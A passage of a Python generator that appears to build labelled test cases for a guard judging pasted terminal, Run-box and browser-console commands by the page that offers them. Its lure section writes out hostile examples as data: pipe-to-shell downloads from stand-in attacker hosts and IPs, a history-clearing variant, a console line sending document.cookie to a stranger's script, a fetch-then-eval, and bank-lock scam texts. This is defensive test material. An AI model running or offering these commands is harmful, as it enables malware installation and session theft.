        "https://docs.docker.com/reference/cli/docker/system/prune/",
    )
    add(
        "dv3",
        'ssh-keygen -t ed25519 -C "me@example.com" && cat ~/.ssh/id_ed25519.pub',
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent",
    )
    add(
        "dv4",
        "curl -s https://api.github.com/users/octocat/repos | jq '.[].name'",
        "https://docs.github.com/en/rest",
    )
    add(
        "dv5",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null | openssl x509 -noout -dates",
        "https://www.openssl.org/docs/man3.0/man1/openssl-s_client.html",
    )
    add(
        "dv6",
        "tar -czf backup-$(date +%F).tar.gz ~/projects && scp backup-*.tar.gz user@nas.local:/backups/",
        "https://askubuntu.com/questions/2222/backup-with-tar",
    )
    add(
        "dv7",
        "kubectl get pods -A -o wide | grep -v Running",
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
    )
    add(
        "dv8",
        "python3 -m http.server 8000 --bind 127.0.0.1",
        "https://docs.python.org/3/library/http.server.html",
    )
    add(
        "dv9",
        "echo 'export PATH=\"$HOME/.cargo/bin:$PATH\"' >> ~/.zshrc && source ~/.zshrc",
        "https://doc.rust-lang.org/cargo/getting-started/installation.html",
    )
    add(
        "dv10",
        "sudo systemctl enable --now docker && sudo usermod -aG docker $USER",
        "https://docs.docker.com/engine/install/linux-postinstall/",
    )
    add(
        "dv11",
        "xattr -d com.apple.quarantine /Applications/MyApp.app",
        "https://support.apple.com/en-us/102445",
        "terminal",
    )
    add(
        "dv12",
        'crontab -l | { cat; echo "0 3 * * * /usr/local/bin/backup.sh"; } | crontab -',
        "https://stackoverflow.com/questions/878600/how-to-create-a-cron-job-using-bash-automatically",
    )
    add(
        "dv13",
        "base64 -d <<< 'SGVsbG8sIFdvcmxkIQ==' ",
        "https://linuxize.com/post/bash-base64-encode-decode/",
    )
    add(
        "dv14",
        "echo 'aGVsbG8=' | base64 --decode | xxd",
        "https://www.gnu.org/software/coreutils/manual/html_node/base64-invocation.html",
    )
    add(
        "dv15",
        "nc -zv db.internal 5432",
        "https://www.digitalocean.com/community/tutorials/how-to-use-netcat",
    )
    add(
        "dv16",
        "git clone https://github.com/torvalds/linux.git --depth 1 && cd linux && make defconfig",
        "https://www.kernel.org/doc/html/latest/admin-guide/README.html",
    )
    add(
        "dv17",
        "sudo sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config && sudo systemctl restart ssh",
        "https://www.ssh.com/academy/ssh/sshd_config",
    )
    add(
        "dv18",
        "defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder",
        "https://macos-defaults.com/finder/appleshowallfiles.html",
    )
    add(
        "dv19",
        "osascript -e 'tell application \"System Events\" to get name of every process'",
        "https://developer.apple.com/library/archive/documentation/AppleScript/Conceptual/AppleScriptLangGuide/",
    )
    add(
        "dv20",
        "spctl --status",
        "https://support.apple.com/guide/security/gatekeeper-and-runtime-protection-sec5599b66df/web",
    )
    add(
        "dv21",
        "security find-generic-password -s 'GitHub' -w",
        "https://ss64.com/mac/security-find-generic-password.html",
    )
    add(
        "dv22",
        "sudo launchctl load -w /Library/LaunchDaemons/com.example.agent.plist",
        "https://developer.apple.com/library/archive/documentation/MacOSX/Conceptual/BPSystemStartup/Chapters/CreatingLaunchdJobs.html",
    )
    add("dv23", "npm config set registry https://registry.npmmirror.com", "https://npmmirror.com/")
    add(
        "dv24",
        "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
        "https://mirrors.tuna.tsinghua.edu.cn/help/pypi/",
    )
    add(
        "dv25",
        "wget -r -np -nH --cut-dirs=3 -R 'index.html*' https://mirror.example.org/pub/datasets/",
        "https://www.gnu.org/software/wget/manual/wget.html",
    )
    # console snippets
    C = "browser_console"
    add(
        "c1",
        "document.querySelectorAll('img').forEach(i => console.log(i.src, i.naturalWidth))",
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        C,
    )
    add(
        "c3",
        "localStorage.removeItem('feature-flags'); location.reload()",
        "https://docs.example-saas.com/troubleshooting/reset-flags",
        C,
    )
    add(
        "c4",
        "JSON.parse(localStorage.getItem('settings'))",
        "https://stackoverflow.com/questions/2010892/storing-objects-in-html5-localstorage",
        C,
    )
    add(
        "c5",
        "await navigator.clipboard.writeText(location.href)",
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        C,
    )
    add(
        "c6",
        "fetch('/api/me', {credentials: 'include'}).then(r => r.json()).then(console.log)",
        "https://docs.example-saas.com/api/debugging",
        C,
    )
    add(
        "c7",
        "window.__REDUX_DEVTOOLS_EXTENSION__ && console.log(store.getState())",
        "https://github.com/reduxjs/redux-devtools",
        C,
    )
    add(
        "c8",
        "Array.from(document.querySelectorAll('input[type=checkbox]')).forEach(c => c.checked = true)",
        "https://stackoverflow.com/questions/386281/how-to-implement-select-all-check-box-in-html",
        C,
    )
    add(
        "c9",
        "performance.getEntriesByType('navigation')[0].toJSON()",
        "https://web.dev/articles/navigation-and-resource-timing",
        C,
    )
    add(
        "c10",
        "indexedDB.databases().then(dbs => dbs.forEach(d => indexedDB.deleteDatabase(d.name)))",
        "https://developer.mozilla.org/en-US/docs/Web/API/IDBFactory/databases",
        C,
    )
    add(
        "c11",
        "caches.keys().then(keys => keys.forEach(k => caches.delete(k)))",
        "https://developer.mozilla.org/en-US/docs/Web/API/CacheStorage/delete",
        C,
    )
    add(
        "c12",
        "setInterval(() => document.querySelector('.load-more')?.click(), 1500)",
        "https://www.reddit.com/r/webdev/comments/abc/auto_click_load_more/",
        C,
    )
    add(
        "c13",
        "$x('//h2').map(e => e.textContent)",
        "https://developer.chrome.com/docs/devtools/console/utilities#xpath-function",
        C,
    )
    add(
        "c14",
        "monitorEvents(window, 'resize')",
        "https://developer.chrome.com/docs/devtools/console/utilities#monitorEvents-function",
        C,
    )
    add(
        "c15",
        "const s = document.createElement('script'); s.src = '/static/js/debug-panel.js'; document.body.appendChild(s);",
        "https://docs.example-saas.com/support/debug-panel",
        C,
    )
    # run box / explorer
    R = "run_dialog"
    E = "explorer_bar"
    for i, t in enumerate(
        [
            "\\\\fileserver01\\Scans",
            "%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs",
            "https://portal.office.com",
            "mailto:helpdesk@contoso.com",
            "ms-settings:network-proxy",
            "control /name Microsoft.NetworkAndSharingCenter",
            "inetcpl.cpl",
            "powercfg.cpl",
            "firewall.cpl",
            "mmsys.cpl",
            "main.cpl",
            "timedate.cpl",
            "msinfo32.exe",
            "systeminfo",
            "charmap",
            "snippingtool",
            "osk",
            "magnify",
            "SystemPropertiesAdvanced",
            "netplwiz.exe",
            "lusrmgr.msc",
            "compmgmt.msc",
            "perfmon.msc",
            "taskschd.msc",
            "wf.msc",
            "certmgr.msc",
            "iexpress",
            "write",
            "mspaint",
            "wordpad",
            "sndvol",
            "dfrgui",
            "rstrui",
            "recdisc",
            "sdclt",
            "fsquirt",
            "colorcpl",
            "cttune",
            "dpiscaling",
            "shell:Downloads",
            "shell:RecycleBinFolder",
            "shell:appdata",
            "ms-settings:bluetooth",
            "outlook.exe /safe",
            "winword.exe /safe",
            "excel.exe /safe",
            "ms-availablenetworks:",
            "microsoft-edge:https://intranet.contoso.com",
            "notepad++",
            "code",
            "cmd",
            "powershell_ise",
            "wt.exe",
        ]
    ):
        add(f"r{i}", t, None, R)
    for i, t in enumerate(
        [
            "C:\\Windows\\Logs\\CBS",
            "%USERPROFILE%\\AppData\\Local",
            "\\\\nas\\home$",
            "shell:Startup",
            "ftp://ftp.example.org/pub/",
            "Control Panel\\Programs\\Programs and Features",
            "Control Panel\\Network and Internet\\Network Connections",
            "Recycle Bin",
            "OneDrive - Contoso",
            "D:\\Projects\\2024",
        ]
    ):
        add(f"e{i}", t, None, E)
    # messages with phone numbers (genuine)
    M = "unknown"
    msgs = [
        "Your Uber driver Ahmed is arriving in a grey Toyota Prius (AB12 CDE). Call or text him on +44 7700 900123.",
        "Delta: Flight DL1234 ATL-JFK is delayed. New departure 7:45 PM. Rebook at delta.com or call 1-800-221-1212.",
        "Hi, this is Dr. Smith's office confirming your appointment tomorrow at 2:30 PM. Please call 555-867-5309 to reschedule.",
        "Your verification code is 482913. Do not share this code with anyone. If you didn't request it, call us at 1-888-555-0123.",
        "Lufthansa: Ihr Flug LH 400 wurde annulliert. Wir haben Sie auf LH 402 umgebucht. Fragen: +49 69 86 799 799.",
        "Air France : votre vol AF1234 est retardé de 2 h. Infos au 36 54 (service gratuit + prix appel).",
        "Iberia: Su vuelo IB3456 sale de la puerta B12. Consultas: +34 901 111 500.",
        "Trenitalia: il treno FR 9521 viaggia con 20 minuti di ritardo. Info 89 20 21.",
        "KLM: Uw vlucht KL1234 vertrekt vanaf gate D7. Vragen? Bel +31 20 474 7747.",
        "Santander: Ha realizado una compra de 45,90 EUR con su tarjeta terminada en 1234. Si no la reconoce, llame al 915 123 123.",
        "Commerzbank: Ihre neue Kreditkarte ist unterwegs. Bei Fragen erreichen Sie uns unter 069 5 8000 8000.",
        "PKO BP: Twoja karta została zablokowana na Twoje życzenie. W razie pytań zadzwoń: 800 302 302.",
        "Garanti BBVA: Kartınız talebiniz üzerine bloke edilmiştir. Bilgi için 444 0 333.",
        "Сбербанк: Ваша карта заблокирована по вашему запросу. Телефон поддержки 900.",
        "みずほ銀行：キャッシュカードの暗証番号を3回間違えたため、ご利用を停止しました。お問い合わせ 0120-324-767",
        "招商银行：您尾号1234的卡因密码错误次数过多已锁定，请携带身份证到网点办理或致电95555。",
        "Your AT&T bill of $85.20 is ready. Pay at att.com/pay or call 611 from your mobile.",
        "Royal Mail: we tried to deliver your parcel today. Rebook at royalmail.com/redelivery or call 03457 740 740.",
        "Sehr geehrter Herr Müller, Ihr Termin beim Bürgeramt ist am 12.03. um 10:30 Uhr. Bei Verhinderung: 030 115.",
        "NHS: Your COVID-19 booster is due. Book online at nhs.uk or call 119.",
    ]
    for i, m in enumerate(msgs):
        add(f"m{i}", m, None, M)
    return out


def one_project() -> list[Case]:
    """One long-tail project documented every way its READMEs and docs pages write it for
    Windows, macOS and Linux: version variables, the releases API, MSI/MSIX/DMG/PKG, apt and
    dnf repositories on its domain, package registries' pages: not flagged."""
    out: list[Case] = []

    def add(cid: str, text: str, source: str, target: str = "terminal") -> None:
        platform = {"w": "windows", "m": "macos", "l": "linux"}[cid[0]]
        out.append(
            case(f"b4-kelp-{cid}", text, "not_flagged", "benign-own-page", platform, source, target)
        )

    gh = "https://github.com/kelpforest/kelp"
    add(
        "w1",
        '$version = "2.3.1"\n$url = "https://github.com/kelpforest/kelp/releases/download/v$version/kelp-$version-windows-x64.zip"\nInvoke-WebRequest $url -OutFile "$env:TEMP\\kelp.zip"\nExpand-Archive "$env:TEMP\\kelp.zip" -DestinationPath "$env:LOCALAPPDATA\\Programs\\kelp" -Force',
        gh + "/releases",
    )
    add(
        "w2",
        '$tag = (Invoke-RestMethod https://api.github.com/repos/kelpforest/kelp/releases/latest).tag_name\nInvoke-WebRequest "https://github.com/kelpforest/kelp/releases/download/$tag/kelp-setup.exe" -OutFile kelp-setup.exe\nStart-Process .\\kelp-setup.exe -ArgumentList "/VERYSILENT" -Wait',
        gh,
    )
    add(
        "w3",
        "winget install --id KelpForest.Kelp --exact --accept-source-agreements --accept-package-agreements",
        gh,
    )
    add("w4", "scoop install https://raw.githubusercontent.com/kelpforest/kelp/main/kelp.json", gh)
    add(
        "w5",
        'msiexec /i "https://github.com/kelpforest/kelp/releases/download/v2.3.1/kelp-2.3.1-x64.msi" /qn /norestart',
        gh + "/releases/tag/v2.3.1",
    )
    add(
        "w6",
        'iex "& { $(irm https://kelpforest.github.io/kelp/install.ps1) } -InstallDir C:\\Tools\\kelp"',
        "https://kelpforest.github.io/kelp/",
    )
    add(
        "w7",
        "Invoke-WebRequest -UseBasicParsing https://get.kelp.dev/install.ps1 | Invoke-Expression",
        "https://kelp.dev/docs/install/windows",
    )
    add("w8", 'powershell -c "irm https://get.kelp.dev/install.ps1 | iex"', "https://kelp.dev/")
    add(
        "w9",
        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.kelp.dev/install.ps1 | iex",
        "https://docs.kelp.dev/getting-started",
    )
    add(
        "w10",
        '$ProgressPreference = "SilentlyContinue"; iwr https://dl.kelp.dev/kelp-setup.msi -OutFile $env:TEMP\\kelp.msi; Start-Process msiexec -ArgumentList "/i $env:TEMP\\kelp.msi /qn" -Wait',
        "https://kelp.dev/download",
    )
    add(
        "w11",
        "curl.exe -L -o kelp.zip https://github.com/kelpforest/kelp/releases/latest/download/kelp-windows.zip && tar -xf kelp.zip",
        gh,
    )
    add(
        "w12",
        "choco install kelp --version=2.3.1 -y",
        "https://community.chocolatey.org/packages/kelp",
    )
    add(
        "w13",
        "Install-Module -Name KelpTools -Scope CurrentUser -Force",
        "https://www.powershellgallery.com/packages/KelpTools",
    )
    add("w14", "dotnet tool install --global Kelp.Cli", "https://www.nuget.org/packages/Kelp.Cli")
    add(
        "w15",
        "Add-AppxPackage -Path https://github.com/kelpforest/kelp/releases/download/v2.3.1/Kelp.msixbundle",
        gh + "/releases",
    )
    add(
        "w16",
        'wsl --install; wsl -d Ubuntu -- bash -c "curl -fsSL https://get.kelp.dev | sh"',
        "https://kelp.dev/docs/install/wsl",
    )
    add("m1", "brew install --cask kelpforest/tap/kelp", gh)
    add(
        "m2",
        "curl -fsSL https://github.com/kelpforest/kelp/releases/download/v2.3.1/Kelp.dmg -o /tmp/Kelp.dmg && hdiutil attach /tmp/Kelp.dmg && cp -R /Volumes/Kelp/Kelp.app /Applications/ && hdiutil detach /Volumes/Kelp",
        gh + "/releases",
    )
    add(
        "m3",
        "sudo installer -pkg ~/Downloads/kelp-2.3.1.pkg -target /",
        "https://kelp.dev/docs/install/macos",
    )
    add(
        "m4",
        "xattr -dr com.apple.quarantine /Applications/Kelp.app",
        "https://kelp.dev/docs/install/macos",
    )
    add(
        "l1",
        'echo "deb [signed-by=/usr/share/keyrings/kelp.gpg] https://apt.kelp.dev stable main" | sudo tee /etc/apt/sources.list.d/kelp.list\ncurl -fsSL https://apt.kelp.dev/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/kelp.gpg\nsudo apt update && sudo apt install kelp',
        "https://kelp.dev/docs/install/debian",
    )
    add(
        "l2",
        "sudo dnf config-manager --add-repo https://rpm.kelp.dev/kelp.repo && sudo dnf install kelp",
        "https://kelp.dev/docs/install/fedora",
    )
    add(
        "l3",
        "curl -fsSL https://kelp.dev/install.sh | sh -s -- --version 2.3.1 --prefix /opt/kelp",
        "https://kelp.dev/docs/install",
    )
    add(
        "l4",
        "curl -fsSL https://get.kelp.dev | KELP_INSTALL_DIR=/usr/local/bin sudo -E sh",
        "https://kelp.dev/docs/install",
    )
    add(
        "l5",
        "docker run -d --name kelp -p 8080:8080 -v kelp-data:/data ghcr.io/kelpforest/kelp:2.3.1",
        gh,
    )
    add(
        "l6",
        'curl -fsSLo kelp.tar.gz https://github.com/kelpforest/kelp/releases/download/v2.3.1/kelp_linux_amd64.tar.gz\necho "3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed  kelp.tar.gz" | sha256sum -c\nsudo tar -C /usr/local/bin -xzf kelp.tar.gz kelp',
        gh + "/releases/tag/v2.3.1",
    )
    add("l7", "snap install kelp --classic", "https://snapcraft.io/kelp")
    add("l8", "flatpak install flathub dev.kelp.Kelp", "https://flathub.org/apps/dev.kelp.Kelp")
    add("l9", "yay -S kelp-bin", "https://aur.archlinux.org/packages/kelp-bin")
    add("l10", "nix profile install nixpkgs#kelp", "https://search.nixos.org/packages?query=kelp")
    return out


# A remote-access tool installed as its own vendor documents it, from the vendor's page: the
# vendor's page and domain are the tool's (the guard's scam concern is a stranger handing it out).
REMOTE_ACCESS = [
    (
        "https://www.teamviewer.com/en/download/linux/",
        "wget https://download.teamviewer.com/download/linux/teamviewer_amd64.deb && "
        "sudo apt install ./teamviewer_amd64.deb",
    ),
    (
        "https://anydesk.com/en/downloads/linux",
        "wget -qO - https://keys.anydesk.com/repos/DEB-GPG-KEY | sudo apt-key add -\n"
        'echo "deb http://deb.anydesk.com/ all main" | sudo tee '
        "/etc/apt/sources.list.d/anydesk-stable.list\nsudo apt update && sudo apt install anydesk",
    ),
    (
        "https://www.teamviewer.com/en/download/linux/",
        "curl -fsSLO https://download.teamviewer.com/download/linux/teamviewer-host_amd64.deb",
    ),
]


def remote_access() -> list[Case]:
    out = [
        case(
            f"b4-rat-vendor-{i:02d}",
            text,
            "not_flagged",
            "benign-own-page",
            "linux",
            page,
            "terminal",
        )
        for i, (page, text) in enumerate(REMOTE_ACCESS, 1)
    ]
    lures = [
        # a help desk serving the tool itself, or handing out the real one
        (
            "https://support-desk.example/session",
            "curl -fsSL https://support-desk.example/anydesk.sh | sudo bash",
            "malicious",
            "terminal",
        ),
        ("https://support-desk.example/session", REMOTE_ACCESS[0][1], "flagged", "terminal"),
        # the vendor's page with someone else's copy, or one more download beside it
        (
            "https://www.teamviewer.com/en/download/linux/",
            "wget https://teamviewer-dl.example/"
            "teamviewer_amd64.deb && sudo apt install ./teamviewer_amd64.deb",
            "flagged",
            "terminal",
        ),
        (
            "https://www.teamviewer.com/en/download/linux/",
            REMOTE_ACCESS[0][1] + "; curl -s http://203.0.113.5/x | sh",
            "malicious",
            "terminal",
        ),
        # a name that merely contains the tool's, and the Run box
        (
            "https://teamviewer-support.example/",
            "curl -fsSL https://teamviewer-support.example/tv.sh | bash",
            "malicious",
            "terminal",
        ),
        (
            "https://www.teamviewer.com/en/download/linux/",
            REMOTE_ACCESS[0][1],
            "malicious",
            "run_dialog",
        ),
    ]
    out += [
        case(f"b4-rat-lure-{i:02d}", text, expect, "T1219", "linux", page, target)
        for i, (page, text, expect, target) in enumerate(lures, 1)
    ]
    return out


MACOS = {"dv11", "dv18", "dv19", "dv20", "dv21", "dv22"}


# The look-alikes: each shape above from a page that does not vouch for it.
def lures() -> list[Case]:
    out: list[Case] = []
    n = 0

    def add(
        text: str,
        source: str | None,
        target: str,
        expect: str = "malicious",
        platform: str = "linux",
    ) -> None:
        nonlocal n
        n += 1
        out.append(case(f"b4-lure-{n:03d}", text, expect, LURE, platform, source, target))

    owner, repo, _ = GITHUB[0]
    # another account's script from a project README
    add(
        f"curl -fsSL https://raw.githubusercontent.com/{owner}-dev/{repo}/main/install.sh | sh",
        f"https://github.com/{owner}/{repo}",
        "terminal",
        "flagged",
    )
    # a stranger's pages site from a project's README
    add(
        f"curl -fsSL https://{owner}x.github.io/{repo}/install.sh | sh",
        f"https://github.com/{owner}/{repo}",
        "terminal",
        "flagged",
    )
    # another user's sourcehut repository from a sourcehut page
    add(
        "curl -sSf https://git.sr.ht/~mallory/tools/blob/main/fix.sh | sh",
        f"https://git.sr.ht/~{owner}/{repo}",
        "terminal",
        "flagged",
    )
    # a project's bucket on a shared object store, from an unrelated page
    add(
        "curl -fsSL https://s3.amazonaws.com/pelagic-dev/install.sh | sh",
        "https://recipes-daily.example/easy-lasagne",
        "terminal",
    )
    # storage named after someone else, or named after the page on a page that is no
    # product's own site (a tenant, a site where anyone writes, a page about something else)
    add(
        "curl -fsSL https://storage.googleapis.com/releases-pelagic/install.sh | bash",
        "https://pelagic.dev/docs/install",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://pelagic-dl.s3.amazonaws.com/install.sh | bash",
        "https://pelagic.netlify.app/docs/install",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://reddit-tools.s3.amazonaws.com/fix.sh | bash",
        "https://www.reddit.com/r/linux/comments/1abc/install_help/",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://pelagic-dl.s3.amazonaws.com/install.sh | bash",
        "https://pelagic.dev/",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://pelagic-dl.s3.amazonaws.com/install.sh | bash",
        "https://blog.pelagic.dev/2024/our-summer-party",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://cdn.stranger-host.test/pelagicx/install.sh | bash",
        "https://pelagic.dev/docs/install",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://www.stranger-host.test/pelagic/install.sh | bash",
        "https://pelagic.dev/docs/install",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://cdn.stranger-host.test/pelagic/install.sh | bash",
        "https://pelagic.dev/docs/install",
        "run_dialog",
        platform="windows",
    )
    add(
        "curl -fsSL http://pelagic-dl.s3.amazonaws.com/install.sh | bash",
        "https://pelagic.dev/docs/install",
        "terminal",
        "flagged",
    )
    # a company's docs vouch for its own hosts, not for a look-alike or its forum's posts
    add(
        "curl -fsSL https://hf-co.test/cli/install.sh | bash",
        "https://huggingface.co/docs/huggingface_hub/installation",
        "terminal",
        "flagged",
    )
    add(
        "Invoke-WebRequest https://s3.amazonaws.com/helpful-fix/fix.exe -OutFile $env:TEMP\\f.exe"
        "; & $env:TEMP\\f.exe",
        "https://repost.aws/questions/QU123/ec2-agent-broken",
        "terminal",
        platform="windows",
    )
    add(
        "irm https://aka.ms.example/fix.ps1 | iex",
        "https://learn.microsoft.com/en-us/windows/wsl/install",
        "terminal",
        "flagged",
        "windows",
    )
    add(
        "irm https://aka.ms/azcmagent-windows | iex",
        "https://techcommunity.microsoft.com.example/t5/fix/m-p/1",
        "run_dialog",
        platform="windows",
    )
    # a host and an account put together from pieces are still hidden
    add(
        '$h = "stranger" + "-host"; iwr "https://$h.test/a.ps1" -OutFile $env:TEMP\\a.ps1; '
        "& $env:TEMP\\a.ps1",
        "https://pelagic.dev/docs/install",
        "terminal",
        "flagged",
        "windows",
    )
    add(
        '$o = "mall" + "ory"; irm "https://raw.githubusercontent.com/$o/tools/main/a.ps1" | iex',
        "https://github.com/fenwick-labs/fenwick",
        "terminal",
        "flagged",
        "windows",
    )
    # sourcehut: another account's repository, and the site's own pages
    add(
        "curl -sSf https://git.sr.ht/~mallory/dotfiles/blob/main/setup.sh | sh",
        "https://sr.ht/~fenwick-labs/fenwick/",
        "terminal",
        "flagged",
    )
    # a company's affix does not make any name its own
    add(
        "curl -fsSL https://get.teleportx.test/install.sh | bash",
        "https://goteleport.com/docs/installation/",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://cdn.goteleport-app.test/install.sh | bash",
        "https://goteleport.com/docs/installation/",
        "terminal",
        "flagged",
    )
    # typosquats of the vendor's download host
    add(
        "curl -fsSL https://get.pulumii.com | sh",
        "https://pulumi.com/docs/install/",
        "terminal",
        "flagged",
    )
    add(
        "curl -sfL https://get.rke2-io.test | sh -",
        "https://docs.rke2.io/install/quickstart",
        "terminal",
        "flagged",
    )
    add(
        "irm https://get-scoop.sh.test | iex", "https://scoop.sh/", "terminal", "flagged", "windows"
    )
    # fake check pages quoting a real installer's shape
    add(
        "curl -fsSL https://get.pelagic.dev.verify-human.test/i.sh | bash",
        "https://verify-human.test/captcha?id=8812",
        "terminal",
    )
    add(
        'powershell -w h -c "irm https://cdn.basalt-cloud.test/cli.ps1 | iex"',
        "https://recaptcha-check.example/",
        "run_dialog",
        platform="windows",
    )
    # vendor installers pasted into the Run box from the web
    add(
        'powershell -ep bypass -c "irm https://astral.sh/uv/install.ps1 | iex"',
        "https://free-movies.example/watch/8812",
        "run_dialog",
        platform="windows",
    )
    add(
        "msiexec /i https://awscli-amazonaws.test/AWSCLIV2.msi /qn",
        "https://docs.aws.amazon.com/cli/latest/userguide/getting-started-install.html",
        "run_dialog",
        platform="windows",
    )
    # a console import from a stranger's host, from the page being attacked
    add(
        "import('https://cdn-vitals.test/m.js').then(m => m.run(document.cookie))",
        "https://discord.com/channels/@me",
        "browser_console",
        "flagged",
        "any",
    )
    add(
        "fetch('https://unpkg.com/evil-pkg@1.0.0/x.js').then(r=>r.text()).then(eval)",
        "https://www.roblox.com/home",
        "browser_console",
        "flagged",
        "any",
    )
    # a bank-style lock text that asks for a call to a number, from a stranger
    add(
        "Your card has been BLOCKED due to suspicious activity. Call our fraud team immediately "
        "on +1 (888) 555-0199 to unlock it or your account will be closed within 24 hours.",
        None,
        "unknown",
        "flagged",
        "any",
    )
    add(
        "Ihr Konto wurde aus Sicherheitsgründen gesperrt! Rufen Sie sofort 0800 555 0123 an, "
        "sonst wird Ihr Konto dauerhaft geschlossen.",
        None,
        "unknown",
        "flagged",
        "any",
    )
    # a Colab cell piping a stranger's script
    add(
        "!curl -fsSL https://paste.example/raw/abc123 | bash",
        "https://colab.research.google.com/drive/1AbCdEfGhIjKlMnOpQrStUvWxYz",
        "terminal",
        "flagged",
    )
    # GCP-style installer saved to TEMP and started, from an unrelated page
    add(
        '(New-Object Net.WebClient).DownloadFile("https://dl-google.test/GoogleCloudSDKInstaller'
        '.exe", "$env:Temp\\g.exe"); & $env:Temp\\g.exe',
        "https://weather-today.example/paris",
        "terminal",
        platform="windows",
    )
    # an address staged in a variable is still the download's: a stranger's, an IP's
    add(
        'u=http://203.0.113.9/x.sh; curl -fsS "$u" -o /tmp/x.sh; bash /tmp/x.sh; history -c',
        "https://www.aapanel.com/new/download.html",
        "terminal",
    )
    add(
        'URL=https://cdn.stranger-host.test/i.sh && curl -ksSO "$URL" && bash i.sh',
        "https://recipes-daily.example/easy-lasagne",
        "terminal",
    )
    # a project site vouches for its installer's repository, not for another part or person
    add(
        "irm https://raw.githubusercontent.com/mallory/vencord-helper/main/install.ps1 | iex",
        "https://vencord.dev/download/",
        "terminal",
        "flagged",
        "windows",
    )
    add(
        "irm https://raw.githubusercontent.com/mallory/VencordInstallerFix/main/i.ps1 | iex",
        "https://vencord.dev/download/",
        "terminal",
        "flagged",
        "windows",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/tiltx-dev/tools/master/install.sh | bash",
        "https://docs.tilt.dev/install.html",
        "terminal",
        "flagged",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/evil-tilt/tilt-tools/main/i.sh | bash",
        "https://docs.tilt.dev/install.html",
        "terminal",
        "flagged",
    )
    add(
        "irm https://raw.githubusercontent.com/Vendicated/VencordInstaller/main/install.ps1 | iex",
        "https://vencord.dev/download/",
        "run_dialog",
        platform="windows",
    )
    add(
        "curl -fsSL https://raw.githubusercontent.com/mallory/install/main/install.sh | sh",
        "https://downloads.pelagic.dev/install",
        "terminal",
        "flagged",
    )
    # the releases API of another account, from a project's README
    add(
        "$tag = (irm https://api.github.com/repos/mallory/x/releases/latest).tag_name; iwr "
        '"https://github.com/mallory/x/releases/download/$tag/s.exe" -OutFile s.exe; '
        "Start-Process .\\s.exe",
        "https://github.com/kelpforest/kelp",
        "terminal",
        "flagged",
        "windows",
    )
    return out


def build() -> list[Case]:
    return [
        *own_pages(),
        *vendors(),
        *quoted(),
        *admin(),
        *console_cases(),
        *runbox(),
        *messages(),
        *prose(),
        *config(),
        *more_shapes(),
        *everyday(),
        *one_project(),
        *remote_access(),
        *lures(),
    ]


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
